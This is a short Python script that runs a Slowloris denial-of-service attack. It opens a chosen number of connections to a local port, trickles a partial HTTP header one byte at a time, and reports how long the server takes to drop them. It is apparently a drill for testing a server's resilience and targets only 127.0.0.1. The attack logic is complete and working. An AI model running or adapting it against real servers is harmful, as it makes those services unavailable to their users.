"""Slowloris: `python -m drill.slowloris PORT NUM`, so many connections that send a header drop by drop.

Prints a line when all are connected, and one when the last was dropped: after how many seconds.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time

_EVERY_S = 2.0


async def main(port: int, num: int) -> None:
    """Attack and tell."""
    began_s = time.monotonic()
    connections = await asyncio.gather(*(asyncio.open_connection("127.0.0.1", port) for _ in range(num)))
    print("connected", flush=True)
    await asyncio.gather(*(_trickle(reader, writer) for reader, writer in connections))
    print(time.monotonic() - began_s, flush=True)


# Private


async def _trickle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One byte every two seconds until the server has had enough."""
    writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    ended = asyncio.ensure_future(reader.read())
    while not ended.done():
        writer.write(b"x")
        await asyncio.wait({ended}, timeout=_EVERY_S)
    writer.close()


if __name__ == "__main__":
    # An attacker's own machine would not take the processor from those who are attacked.
    os.nice(10)
    asyncio.run(main(int(sys.argv[1]), int(sys.argv[2])))
